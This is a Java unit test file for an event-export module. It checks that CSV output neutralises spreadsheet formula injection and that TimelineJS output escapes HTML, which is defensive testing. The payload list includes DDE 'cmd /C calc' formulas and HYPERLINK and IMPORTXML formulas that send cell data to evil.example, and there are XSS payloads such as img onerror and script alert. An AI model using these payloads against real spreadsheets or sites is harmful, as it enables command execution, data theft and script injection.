package org.annalist.export;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.StringWriter;
import java.time.LocalDate;
import java.time.LocalDateTime;
import java.util.List;
import java.util.Map;
import org.annalist.event.DateHow;
import org.annalist.event.Polarity;
import org.annalist.events.StoredEvent;
import org.annalist.temporal.Granularity;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.MappingIterator;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.dataformat.csv.CsvMapper;
import tools.jackson.dataformat.csv.CsvSchema;

class EventExportTest {

    private final EventExport export = new EventExport(id -> id.equals("russie-cei") ? "Russie et CEI" : id);

    private static StoredEvent event(String title, String passage) {
        return new StoredEvent(7, title, LocalDateTime.parse("2020-01-07T18:00"), LocalDateTime.parse("2020-01-08T00:00"),
                Granularity.PART_OF_DAY, "2020-01-07TEV", null, "mardi soir", DateHow.RELATIVE_TO_PUBLICATION, "…",
                Polarity.AFFIRMED, 0.8, StoredEvent.Origin.EXTRACTED,
                List.of(new StoredEvent.Named("judd-deere", "Judd Deere", "PERSON", "AGENT")),
                List.of(new StoredEvent.Named("white-house", "Maison Blanche", "ORGANISATION", null)), List.of("russie-cei"),
                List.of(new StoredEvent.Source(2, "Trump veut se retirer", "Mondialisation.ca", LocalDate.of(2020, 1, 10),
                        100, 100 + passage.length(), passage, "2020-01-07TEV", null, null)));
    }

    @Test
    void csvIsRfc4180AndNeutralisesFormulas() throws Exception {
        StringWriter out = new StringWriter();
        export.csv(List.of(event("=HYPERLINK(\"http://evil\")", "Il a dit, « oui »\net \"non\"."),
                event("+1 -2 @SUM", "@foo")), out);
        CsvSchema schema = CsvSchema.emptySchema().withHeader();
        MappingIterator<Map<String, String>> rows = new CsvMapper().readerFor(Map.class).with(schema).readValues(out.toString());
        List<Map<String, String>> all = rows.readAll();
        assertThat(all).hasSize(2);
        assertThat(all.get(0).keySet()).containsExactlyElementsOf(EventExport.COLUMNS);
        assertThat(all.get(0).get("title")).isEqualTo("'=HYPERLINK(\"http://evil\")");
        assertThat(all.get(0).get("passages")).isEqualTo("Il a dit, « oui »\net \"non\".");
        assertThat(all.get(1).get("title")).isEqualTo("'+1 -2 @SUM");
        assertThat(all.get(1).get("passages")).isEqualTo("'@foo");
        assertThat(all.get(0).get("regions")).isEqualTo("Russie et CEI");
        assertThat(all.get(0).get("passage_offsets")).isEqualTo("2:100-" + (100 + "Il a dit, « oui »\net \"non\".".length()));
        assertThat(all.get(0).get("corroboration")).isEqualTo("1");
        assertThat(EventExport.neutralise("\tx")).isEqualTo("'\tx");
        assertThat(EventExport.neutralise("plain")).isEqualTo("plain");
    }

    @Test
    void jsonHasTheSameFields() {
        StringWriter out = new StringWriter();
        export.json(List.of(event("Judd Deere confirme", "p")), out);
        JsonNode first = JsonMapper.builder().build().readTree(out.toString()).get("events").get(0);
        for (String column : EventExport.COLUMNS) {
            assertThat(first.has(column)).as(column).isTrue();
        }
        assertThat(first.get("actors").asString()).isEqualTo("Judd Deere");
    }

    @Test
    void timelineJsHasDatesHeadlinesAndGroups() {
        StringWriter out = new StringWriter();
        export.timelineJs(List.of(event("Judd Deere confirme", "Judd Deere a confirmé mardi soir.")), "Annalist", out);
        JsonNode timeline = JsonMapper.builder().build().readTree(out.toString());
        JsonNode item = timeline.get("events").get(0);
        assertThat(item.get("start_date").get("year").asInt()).isEqualTo(2020);
        assertThat(item.get("start_date").get("month").asInt()).isEqualTo(1);
        assertThat(item.get("start_date").get("day").asInt()).isEqualTo(7);
        assertThat(item.get("start_date").get("hour").asInt()).isEqualTo(18);
        assertThat(item.has("end_date")).isFalse();
        assertThat(item.get("text").get("headline").asString()).isEqualTo("Judd Deere confirme");
        assertThat(item.get("group").asString()).isEqualTo("Russie et CEI");
        assertThat(timeline.get("title").get("text").get("headline").asString()).isEqualTo("Annalist");
    }

    /** OWASP's CSV injection payloads, with what semicolon locales, invisible prefixes and fullwidth forms add. */
    private static final List<String> PAYLOADS = List.of(
            "=cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Error: click\")",
            "=10+20+cmd|' /C calc'!A0",
            "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+9)*cmd|' /C calc'!A0",
            "=1+1",
            "DDE (\"cmd\";\"/C calc\";\"!A0\")A0",
            "=IMPORTXML(CONCAT(\"http://evil.example/\", A1), \"//a\")",
            "\t=1+1",
            "\r=1+1",
            ";=1+1+cmd|' /C calc'!A0",
            "x;=1+1;@SUM(A1)",
            " =1+1",
            "\u00A0=1+1",
            "\u202F\u00A0 +1",
            "\u200B=1+1",
            "\uFEFF@SUM(A1)",
            "\uFF1D1+1",
            "\uFF0B1",
            "\uFF0D1",
            "\uFF20SUM(A1)",
            "\uFF1B=1",
            "\"=1+1",
            "'=1+1",
            "\" \u200B'=cmd|' /C calc'!A0",
            "\u2212 1+1");

    @Test
    void csvNeutralisesEveryKnownFormulaInjectionAndQuotesEveryCell() throws Exception {
        List<StoredEvent> rows = PAYLOADS.stream().map(p -> event(p, p)).toList();
        StringWriter out = new StringWriter();
        export.csv(rows, out);
        List<Map<String, String>> read = new CsvMapper().readerFor(Map.class).with(CsvSchema.emptySchema().withHeader())
                .<Map<String, String>>readValues(out.toString()).readAll();
        assertThat(read).hasSize(PAYLOADS.size());
        for (int i = 0; i < PAYLOADS.size(); i++) {
            String payload = PAYLOADS.get(i);
            for (String column : List.of("title", "passages")) {
                String cell = read.get(i).get(column);
                // The text is kept whole, after an apostrophe wherever a spreadsheet could read a formula.
                assertThat(cell).as(payload).isIn(payload, "'" + payload);
                assertThat(firstVisible(cell)).as("%s: %s", column, payload).isNotIn('=', '+', '-', '@', ';', '\t', '\r',
                        '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20', '\uFF1B', '\u2212');
            }
        }
        // Every cell quoted, so that a semicolon locale does not split "x;=1+1" into a formula cell.
        String firstRow = out.toString().lines().skip(1).findFirst().orElseThrow();
        assertThat(firstRow).startsWith("\"7\",\"2020-01-07T18:00\"");
        assertThat(out.toString()).contains("\"x;=1+1;@SUM(A1)\"");
        assertThat(EventExport.neutralise("plain")).isEqualTo("plain");
        assertThat(EventExport.neutralise("« =1 »")).isEqualTo("« =1 »");
    }

    /** The first character a spreadsheet reads as the start of a formula: after an apostrophe (text), nothing. */
    private static char firstVisible(String cell) {
        if (cell.startsWith("'")) {
            return 'T';
        }
        for (char c : cell.toCharArray()) {
            if (!(Character.isWhitespace(c) && c != '\t' && c != '\r') && !Character.isSpaceChar(c) && "\u200B\uFEFF\"'".indexOf(c) < 0) {
                return c;
            }
        }
        return ' ';
    }

    @Test
    void timelineJsEscapesWhatItShowsAsHtml() {
        StringWriter out = new StringWriter();
        export.timelineJs(List.of(event("<img src=x onerror=alert(1)> & co", "<script>alert('x')</script>")),
                "<b>titre</b>", out);
        JsonNode timeline = JsonMapper.builder().build().readTree(out.toString());
        JsonNode text = timeline.get("events").get(0).get("text");
        assertThat(text.get("headline").asString()).isEqualTo("&lt;img src=x onerror=alert(1)&gt; &amp; co");
        assertThat(text.get("text").asString()).contains("&lt;script&gt;alert(&apos;x&apos;)&lt;/script&gt;")
                .doesNotContain("<script");
        assertThat(timeline.get("title").get("text").get("headline").asString()).isEqualTo("&lt;b&gt;titre&lt;/b&gt;");
    }
}
